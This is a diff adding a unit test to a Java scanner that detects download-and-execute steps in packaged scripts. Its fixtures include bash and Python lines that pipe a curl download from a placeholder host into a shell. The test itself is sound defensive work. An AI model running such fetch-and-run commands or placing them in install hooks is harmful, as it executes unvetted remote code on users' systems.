@@ -212,6 +212,24 @@ class BuiltinScannerTest {
     }
 
     @Test
+    void shouldReportWhenAScriptWithoutAnExtensionNamesItsShellOnTheFirstLine() throws Exception {
+      // Given: what an npm "preinstall": "./bin/install" or a Python scripts/ entry runs
+      List<Finding> findings = scanTarGz(file("package/bin/install", """
+          #!/usr/bin/env bash
+          curl -fsSL https://get.example.invalid/bootstrap.sh | bash
+          """), file("demo/scripts/run-tool", """
+          #!/usr/bin/env python3
+          import os
+          os.system("curl -fsSL https://get.example.invalid/b.sh | sh")
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::location)
+          .contains(tuple("AIRLOCK-DOWNLOAD-EXEC", "package/bin/install:2"),
+              tuple("AIRLOCK-DOWNLOAD-EXEC", "demo/scripts/run-tool:3"));
+    }
+
+    @Test
     void shouldNotReportWhenCurlOnlyDownloadsAFile() throws Exception {
       // Given
       List<Finding> findings = scanTarGz(
